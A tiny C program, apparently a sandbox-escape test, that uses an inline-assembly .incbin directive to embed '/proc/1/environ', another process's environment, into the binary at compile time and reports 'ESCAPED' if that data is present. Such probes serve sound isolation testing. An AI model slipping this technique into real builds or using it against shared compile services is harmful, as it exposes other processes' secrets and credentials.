/* Puts files of another process into the program. */
#include <stdio.h>
__asm__(".section .rodata\nstolen: .incbin \"/proc/1/environ\"\nstolen_end: .byte 0\n.text\n");
extern const char stolen[], stolen_end[];
int main(void) {
    if (stolen_end - stolen > 0) puts("ESCAPED environment of process 1");
    return 0;
}
